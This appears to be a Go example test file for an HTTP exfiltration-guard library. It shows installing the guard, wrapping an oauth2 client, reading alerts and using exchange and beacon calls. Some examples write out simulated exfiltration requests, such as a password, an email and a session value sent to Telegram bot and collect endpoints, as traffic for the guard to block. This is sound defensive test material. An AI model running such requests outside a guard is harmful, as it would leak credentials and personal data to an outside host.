package exfilguard_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"

	"golang.org/x/oauth2"

	"github.com/supergoodsystems/exfilguard-go"
	"github.com/supergoodsystems/exfilguard-go/pkg/event"
	"github.com/supergoodsystems/exfilguard-go/pkg/payload"
)

func Example() {
	sg, err := exfilguard.New(&exfilguard.Options{})
	if err != nil {
		panic(err)
	}
	defer sg.Close()
	// guard every request made through http.DefaultClient
	exfilguard.Install(sg)

	_, err = http.Post("https://api.telegram.org/bot123/sendMessage",
		"application/x-www-form-urlencoded",
		strings.NewReader("chat_id=1&text=password:hunter2"))
	if errors.Is(err, exfilguard.ErrBlocked) {
		fmt.Println("blocked")
	}
}

func ExampleService() {
	sg, err := exfilguard.New(&exfilguard.Options{
		AlertDSN: "alerts.db",
		OnBlock: func(b *event.Block) {
			title, message := b.Notification()
			fmt.Println(title, message)
		},
	})
	if err != nil {
		panic(err)
	}
	defer sg.Close()

	// use the guarded client to make requests
	sg.DefaultClient.Get("https://api.telegram.org/bot123/getMe")

	alerts, err := sg.Alerts(context.Background(), 20)
	if err != nil {
		panic(err)
	}
	for _, a := range alerts {
		fmt.Println(a.Time, a.Method, a.URL)
	}
}

func ExampleService_Wrap() {
	sg, err := exfilguard.New(&exfilguard.Options{})
	if err != nil {
		panic(err)
	}
	defer sg.Close()

	// The oauth2 library returns an http client that makes authenticated requests.
	// If you have not called Install, you can still screen these requests by
	// wrapping the oauth2 client.
	config := &oauth2.Config{ /* ... */ }
	client := config.Client(context.Background(), &oauth2.Token{ /* ... */ })
	client = sg.Wrap(client)

	resp, err := client.Get("https://api.example.com/")
	if err != nil {
		panic(err)
	}
	defer resp.Body.Close()
}

func ExampleService_NewExchange() {
	sg, err := exfilguard.New(&exfilguard.Options{})
	if err != nil {
		panic(err)
	}
	defer sg.Close()

	x := sg.NewExchange(context.Background())
	x.OnLoad(func(x *exfilguard.Exchange) {
		fmt.Println(x.Status())
	})
	x.OnError(func(x *exfilguard.Exchange, err error) {
		fmt.Println(x.StatusText(), err)
	})
	if err := x.Open(http.MethodPost, "https://api.telegram.org/bot123/sendDocument"); err != nil {
		panic(err)
	}
	if err := x.Send(payload.Bytes([]byte(`{"email":"a@example.com"}`))); err != nil {
		panic(err)
	}
	x.Wait()
}

func ExampleService_Beacon() {
	sg, err := exfilguard.New(&exfilguard.Options{})
	if err != nil {
		panic(err)
	}
	defer sg.Close()

	ok := sg.Beacon().Send("https://telegram.org/collect", payload.String("session=abc"))
	fmt.Println(ok)
}
